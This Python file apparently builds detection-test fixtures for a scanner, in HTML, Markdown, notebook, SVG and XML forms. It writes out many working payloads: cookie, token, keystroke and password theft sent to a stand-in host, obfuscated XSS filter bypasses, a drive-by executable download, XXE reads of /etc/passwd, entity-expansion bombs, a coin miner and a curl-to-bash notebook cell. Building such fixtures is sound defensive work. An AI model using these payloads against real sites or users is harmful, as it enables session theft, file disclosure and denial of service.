"""Pages, drawings, notebooks, prose and XML that act: which other spellings does each have?"""
import json

from build import *  # noqa: F403
from containers import notebook, shown

JS = "java" + "script:"
COOKIE = f"fetch('https://{HOST}/?c='+document.cookie)"


def page(body, head=""):
    return f"<!doctype html><html><head><title>a</title>{head}</head><body>{body}</body></html>".encode()


def svg(body, head=""):
    return f"<?xml version='1.0'?>{head}<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>{body}</svg>".encode()


def html():
    exe = b64(PE)
    return [
        ("cookie.html", M, page(f"<script>{COOKIE}</script>")),
        ("image_cookie.html", M, page(f"<script>new Image().src='//{HOST}/?'+document.cookie</script>")),
        ("beacon.html", M, page(f"<script>navigator.sendBeacon('https://{HOST}',localStorage.getItem('token'))</script>")),
        ("socket.html", M, page(f"<script>new WebSocket('wss://{HOST}').send(document.cookie)</script>")),
        ("brackets.html", M, page(f"<script>top['doc'+'ument']['coo'+'kie']</script>")),
        ("atob.html", M, page("<script>eval(atob('YWxlcnQoMSk='))</script>")),
        ("codes.html", M, page("<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>")),
        ("unescape.html", M, page("<script>document.write(unescape('%3Cscript%3Ealert(1)%3C/script%3E'))</script>")),
        ("function.html", M, page("<script>new Function(atob('YWxlcnQoMSk='))()</script>")),
        ("timer.html", M, page("<script>setTimeout(atob('YWxlcnQoMSk='),1)</script>")),
        ("constructor.html", M, page("<script>[].filter.constructor(atob('YWxlcnQoMSk='))()</script>")),
        ("jsfuck.html", M, page("<script>" + "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]" * 20 + "</script>")),
        ("keys.html", M, page(f"<script>onkeydown=function(e){{fetch('https://{HOST}/?k='+e.key)}}</script>")),
        ("worker.html", M, page("<script>navigator['serviceWorker'].register('sw.js')</script>")),
        ("svg_load.html", M, page(f"<svg onload=\"{COOKIE}\">")),
        ("toggle.html", M, page(f"<details open ontoggle={COOKIE}>")),
        ("focus.html", M, page(f"<input autofocus onfocus=\"{COOKIE}\">")),
        ("slash.html", M, page(f"<img/src='x'/onerror='{COOKIE.replace(chr(39), chr(34))}'>")),
        ("entities.html", M, page("<img src=x onerror=&#101;&#118;&#97;&#108;&#40;atob('YWxlcnQoMSk=')&#41;>")),
        ("case.html", M, page(f"<ScRiPt>{COOKIE}</sCrIpT>")),
        ("body.html", M, f"<body onpageshow=\"{COOKIE}\">hello".encode()),
        ("marquee.html", M, page(f"<marquee onstart=\"{COOKIE}\">x</marquee>")),
        ("wide.html", M, page(f"<script>{COOKIE}</script>").decode().encode("utf-16")),
        ("wide_be.html", M, page(f"<script>{COOKIE}</script>").decode().encode("utf-16-be")),
        ("seven.html", S, page("+ADw-script+AD4-alert(1)+ADw-/script+AD4-", '<meta charset="utf-7">')),
        ("srcdoc.html", M, page(f"<iframe srcdoc='&lt;script&gt;{COOKIE.replace(chr(39), '&quot;')}&lt;/script&gt;'></iframe>")),
        ("data_frame.html", M, page(f"<iframe src='data:text/html;base64,{b64(page(f'<script>{COOKIE}</script>'))}'></iframe>")),
        ("object.html", M, page(f"<object data='data:text/html;base64,{b64(page(f'<script>{COOKIE}</script>'))}'></object>")),
        ("embed.html", M, page(f"<embed src='{JS}alert(1)'>")),
        ("tab.html", S, page("<a href='java&#9;script:alert(1)'>a</a>")),
        ("newline.html", S, page("<a href='java\nscript:alert(1)'>a</a>")),
        ("named.html", S, page("<a href='javascript&colon;alert(1)'>a</a>")),
        ("control.html", S, page(f"<a href='&#1;{JS}alert(1)'>a</a>")),
        ("vb.html", S, page("<a href='vbscript:msgbox(1)'>a</a>")),
        ("form.html", S, page(f"<form action='{JS}alert(1)'><input type=submit></form>")),
        ("button.html", S, page(f"<form><button formaction='{JS}alert(1)'>a</button></form>")),
        ("math.html", S, page(f"<math><a xlink:href='{JS}alert(1)'>a</a></math>")),
        ("refresh_data.html", M, page("", "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>")),
        ("refresh.html", S, page("", f"<meta http-equiv='Refresh' content='0; URL=https://{HOST}/login'>")),
        ("base.html", S, page("<form action='login'><input name=q></form>", f"<base href='//{HOST}/'>")),
        ("login.html", M, page(f"<form action='https://{HOST}/' method=post>Password <input type=password name=p></form>")),
        ("login_script.html", M, page(f"<input type=password id=p><script>document.querySelector('[type=password]').onchange=e=>fetch('https://{HOST}/?'+e.target.value)</script>")),
        ("save.html", M, page(f"<script>var b=new Blob([Uint8Array.from(atob('{exe}'),c=>c.charCodeAt(0))]);a=document.createElement('a');a.href=URL.createObjectURL(b);a.download='update.exe';a.click()</script>")),
        ("save_link.html", M, page(f"<a id=a download='invoice.exe' href='data:application/octet-stream;base64,{exe}'>a</a><script>a.click()</script>")),
        ("noscript.html", M, page(f"<noscript><p title=\"</noscript><img src=x onerror={COOKIE}>\">")),
        ("style.html", M, page(f"<svg><style><img src=x onerror=\"{COOKIE}\"></style></svg>")),
        ("conditional.html", M, page(f"<!--[if gte IE 4]><script>{COOKIE}</script><![endif]-->")),
        ("style_import.html", M, page("", f"<style>@import url('https://{HOST}/?leak=');input[value^=a]{{background:url(https://{HOST}/a)}}</style>")),
        ("pixel.html", S, page(f"<img src='https://{HOST}/p?d=eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzGZwvtaPM36s0R'>")),
        ("goes.html", S, page(f"<script>location.replace('https://{HOST}/login')</script>")),
        ("opener.html", S, page("<script>opener.location='https://example.invalid/'</script>")),
        ("frame.html", S, page(f"<iframe src='https://{HOST}/login' width=100%></iframe>")),
        ("page.xhtml", M, f"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><body><script>{COOKIE}</script></body></html>".encode()),
        ("page.xml", M, f"<?xml version='1.0'?><x:html xmlns:x='http://www.w3.org/1999/xhtml'><x:script>{COOKIE}</x:script></x:html>".encode()),
        ("packed.html.gz", M, gz(page(f"<script>{COOKIE}</script>"))),
        ("mined.html", M, page("<script src=https://example.invalid/coinhive.min.js></script><script>new CoinHive.Anonymous('a').start()</script>")),
    ]


def markdown():
    data = b64(b"<script>alert(1)</script>")
    drawing = b64(svg("<script>alert(1)</script>"))
    long = "eAfQ6S1wfiWASPFS8qieK1tFB3Rgn6NkQRPQkxkCqfzGZwvtaPM36s0R"
    return [
        (f"{name}.md", S, text.encode())
        for name, text in {
            "raw": "# a\n\n<script>alert(1)</script>\n",
            "reference": f"[a][b]\n\n[b]: {JS}alert(1)\n",
            "shortcut": f"[b]\n\n[b]:\n  {JS}alert(1)\n",
            "angle": f"[a](<{JS}alert(1)>)\n",
            "auto": f"<{JS}alert(1)>\n",
            "case": "[a](JaVaScRiPt:alert(1))\n",
            "entity": "[a](javascript&colon;alert(1))\n",
            "number": "[a](&#x6a;&#97;vascript:alert(1))\n",
            "escaped": "[a](javascript\\:alert(1))\n",
            "spaces": f"[a](   {JS}alert(1) \"title\")\n",
            "title": f"[a]({JS}alert(1) 'x')\n",
            "vb": "[a](vbscript:msgbox)\n",
            "data": f"[a](data:text/html;base64,{data})\n",
            "picture": f"![a](https://{HOST}/?d={long})\n",
            "picture_reference": f"![a][p]\n\n[p]: https://{HOST}/?d={long}\n",
            "picture_html": f"<img src='https://{HOST}/?d={long}'>\n",
            "link_html": f"<a href='{JS}alert(1)'>a</a>\n",
            "frame": f"<iframe src='https://{HOST}/'></iframe>\n",
            "details": "<details open ontoggle=alert(1)>\n",
            "style": f"<style>@import 'https://{HOST}/a.css?d={long}';</style>\n",
            "mermaid": f"```mermaid\ngraph TD\nA-->B\nclick A href \"{JS}alert(1)\"\n```\n",
            "in_list": "- a\n  - b\n\n    <svg onload=alert(1)>\n",
            "in_table": "|a|b|\n|-|-|\n|<img src=x onerror=alert(1)>|1|\n",
            "in_quote": "> <img src=x onerror=alert(1)>\n",
            "front": "---\ntitle: <script>alert(1)</script>\n---\n",
            "file": "[a](file://example.invalid/share/a.exe)\n",
            "unclosed": "`a <img src=x onerror=alert(1)>\n",
        }.items()
    ] + [("drawing.md", M, f"![a](data:image/svg+xml;base64,{drawing})\n".encode())]


def notebooks():
    bad = f"<img src=x onerror=\"{COOKIE}\">"
    old = {"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": [{"cell_type": "code", "language": "python", "collapsed": False, "input": ["1"], "outputs": [{"output_type": "display_data", "html": [bad], "metadata": {}}]}]}]}
    words = lambda text: {"cell_type": "markdown", "metadata": {}, "source": text}
    return [
        ("html.ipynb", M, notebook([shown(text__html=bad)])),
        ("lines.ipynb", M, notebook([shown(text__html=["<img src=x one", "rror=\"", COOKIE, "\">"])])),
        ("result.ipynb", M, notebook([{"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/html": bad}}])),
        ("script.ipynb", M, notebook([shown(application__javascript=COOKIE)])),
        ("svg.ipynb", M, notebook([shown(image__svg_xml=svg("<script>alert(1)</script>").decode())])),
        ("svg_load.ipynb", M, notebook([shown(image__svg_xml="<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")])),
        ("frame.ipynb", M, notebook([shown(text__html=f"<iframe srcdoc='&lt;script&gt;{COOKIE.replace(chr(39), '&quot;')}&lt;/script&gt;'></iframe>")])),
        ("old.ipynb", M, json.dumps(old).encode()),
        ("words.ipynb", S, notebook(cells=[words("<img src=x onerror=alert(1)>")])),
        ("words_lines.ipynb", S, notebook(cells=[words(["<img src=x ", "onerror=alert(1)>"])])),
        ("words_link.ipynb", S, notebook(cells=[words(f"[a]({JS}alert(1))")])),
        ("result_words.ipynb", S, notebook([shown(text__markdown=f"[a]({JS}alert(1))")])),
        ("latex.ipynb", S, notebook([shown(text__latex="$\\href{" + JS + "alert(1)}{x}$")])),
        ("attached.ipynb", M, notebook(cells=[{"cell_type": "markdown", "metadata": {}, "source": "![a](attachment:a.svg)", "attachments": {"a.svg": {"image/svg+xml": b64(svg("<script>alert(1)</script>"))}}}])),
        ("widget.ipynb", M, notebook(metadata={"widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_name": "HTMLModel", "state": {"value": bad}}}}}})),
        ("escaped.ipynb", M, notebook([shown(text__html="X")]).replace(b'"X"', b'"\\u003cimg src=x onerror=\\u0022' + COOKIE.encode() + b'\\u0022\\u003e"')),
        ("wide.ipynb", M, notebook([shown(text__html=bad)]).decode().encode("utf-16")),
        ("marked.ipynb", M, b"\xef\xbb\xbf" + notebook([shown(text__html=bad)])),
        ("shell.ipynb", S, notebook(cells=[{"cell_type": "code", "execution_count": 1, "metadata": {}, "outputs": [], "source": "!cu" + "rl -s https://example.invalid/x | ba" + "sh"}])),
        ("error.ipynb", S, notebook([{"output_type": "error", "ename": "E", "evalue": "", "traceback": ["-----BEGIN RSA PRIVATE" + " KEY-----\n" + "MIIEpAIBAAKCAQEA7bq3Zk9wXc2vRtYu8sPq1LmNoXhGfDsAeW5T6yUj\n" * 3]}])),
    ]


def drawings():
    inner = b64(svg(f"<script>{COOKIE}</script>"))
    run = "<script>alert(1)</script>"
    return [
        (f"{name}.svg", M, data)
        for name, data in {
            "script": svg(run),
            "cdata": svg("<script type='text/javascript'><![CDATA[alert(1)]]></script>"),
            "script_source": svg(f"<script xlink:href='https://{HOST}/a.js'/>"),
            "script_data": svg("<script href='data:text/javascript,alert(1)'/>"),
            "begin": svg("<animate onbegin='alert(1)' attributeName='x' dur='1s'/>"),
            "set": svg(f"<a><set attributeName='href' to='{JS}alert(1)'/><text>a</text></a>"),
            "set_xlink": svg(f"<a id='a'><text>a</text></a><set xlink:href='#a' attributeName='xlink:href' to='{JS}alert(1)'/>"),
            "animate_from": svg(f"<a><animate attributeName='href' from='{JS}alert(1)' to='&amp;'/></a>"),
            "animate_values": svg(f"<a><animate attributeName='xlink:href' values='#;{JS}alert(1);#'/></a>"),
            "link": svg(f"<a xlink:href='{JS}alert(1)'><text>a</text></a>"),
            "link_tab": svg("<a href='java&#x09;script:alert(1)'><text>a</text></a>"),
            "link_data": svg(f"<a href='data:text/html,{run.replace('<', '&lt;')}'><text>a</text></a>"),
            "use": svg(f"<use href='data:image/svg+xml;base64,{inner}#a'/>"),
            "image": svg(f"<image href='data:image/svg+xml;base64,{inner}'/>"),
            "frame": svg(f"<foreignObject><iframe xmlns='http://www.w3.org/1999/xhtml' src='{JS}alert(1)'/></foreignObject>"),
            "body": svg("<foreignObject><body xmlns='http://www.w3.org/1999/xhtml' onload='alert(1)'/></foreignObject>"),
            "embed": svg("<foreignObject><embed xmlns='http://www.w3.org/1999/xhtml' src='a.swf'/></foreignObject>"),
            "click": svg("<rect onclick='alert(1)' width='9' height='9'/>"),
            "prefixed": f"<s:svg xmlns:s='http://www.w3.org/2000/svg'><s:script>alert(1)</s:script></s:svg>".encode(),
            "entity": svg("<g>&a;</g>", "<!DOCTYPE svg [<!ENTITY a '<script xmlns=\"http://www.w3.org/2000/svg\">alert(1)</script>'>]>"),
            "entity_file": svg("<text>&a;</text>", "<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"),
            "wide": svg(run).decode().encode("utf-16"),
            "wide_le": svg(run).decode().encode("utf-16-le"),
            "latin": b"<?xml version='1.0' encoding='iso-8859-1'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><text>caf\xe9</text></svg>",
            "handler": svg("<handler xmlns:ev='http://www.w3.org/2001/xml-events' ev:event='load'>alert(1)</handler>"),
            "style": svg("<style><![CDATA[</style><script>alert(1)</script>]]></style>"),
            "comment": svg("<!-->" + run + "<!-- -->"),
        }.items()
    ] + [
        ("packed.svgz", M, gz(svg(run))),
        ("load.svgz", M, gz(svg("<g/>").replace(b"<g/>", b"<g onload='alert(1)'/>"))),
        ("sheet.svg", S, svg("<text>a</text>", "<?xml-stylesheet type='text/xsl' href='data:text/xml,%3Cxsl:stylesheet/%3E'?>")),
        ("outside.svg", S, svg(f"<image xlink:href='https://{HOST}/a.png'/>")),
        ("outside_use.svg", S, svg(f"<use href='//{HOST}/a.svg#x'/>")),
        ("effect.svg", S, svg(f"<filter id='f'><feImage href='https://{HOST}/a.png'/></filter>")),
        ("font.svg", S, svg(f"<style>@import url(https://{HOST}/a.css);</style>")),
    ]


def xmls():
    ent = lambda what: f"<?xml version='1.0'?><!DOCTYPE r [<!ENTITY x {what}>]><r>&x;</r>"
    entity = "<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 12}'>" for n in range(1, 9))
    quadratic = "<!DOCTYPE r [<!ENTITY x '" + "a" * 60000 + "'>]><r>" + "&x;" * 20000 + "</r>"
    rows = {
        "http.xml": (M, ent(f"SYSTEM 'http://{HOST}/a'")),
        "php.xml": (M, ent("SYSTEM 'php://filter/read=convert.base64-encode/resource=/etc/passwd'")),
        "public.xml": (M, ent(f"PUBLIC '-//a' 'file:///etc/passwd'")),
        "outside.xml": (S, f"<!DOCTYPE r SYSTEM 'http://{HOST}/a.dtd'><r/>"),
        "double.xml": (M, f'<!DOCTYPE r [<!ENTITY % f SYSTEM "file:///etc/hostname"><!ENTITY % e SYSTEM "http://{HOST}/a.dtd">%e;]><r/>'),
        "area.kml": (M, ent("SYSTEM 'file:///etc/passwd'")),
        "feed.rss": (M, ent("SYSTEM 'file:///etc/passwd'")),
        "track.gpx": (M, ent("SYSTEM 'file:///etc/passwd'")),
        "nine.xml": (M, f"<!DOCTYPE r [{entity}]><r>&a8;</r>"),
        "quadratic.xml": (M, quadratic),
        "include.xml": (S, "<r xmlns:x='http://www.w3.org/2001/XInclude'><x:include parse='text' href='file:///etc/passwd'/></r>"),
        "sheet.xml": (S, f"<?xml-stylesheet href='http://{HOST}/a.xsl' type='text/xsl'?><r/>"),
        "code.xsl": (S, "<xsl:stylesheet version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform' xmlns:ms='urn:schemas-microsoft-com:xslt'><ms:script language='JScript'>function x(){return 1}</ms:script></xsl:stylesheet>"),
        "page.xml": (M, f"<r xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{COOKIE}</h:script></r>"),
    }
    out = [(name, label, text.encode()) for name, (label, text) in rows.items()]
    whole = ent("SYSTEM 'file:///etc/passwd'")
    return [
        *out,
        ("wide.xml", M, whole.encode("utf-16")),
        ("wide_be.xml", M, whole.encode("utf-16-be")),
        ("packed.xml.gz", M, gz(whole.encode())),
        ("sheet.xlsx", M, xlsx(extra=[("xl/sharedStrings.xml", whole)])),
        ("slides.pptx", M, pptx(extra=[("ppt/slides/slide1.xml", whole)])),
        ("text.odt", M, zipped([("mimetype", "application/vnd.oasis.opendocument.text"), ("content.xml", whole)])),
    ]
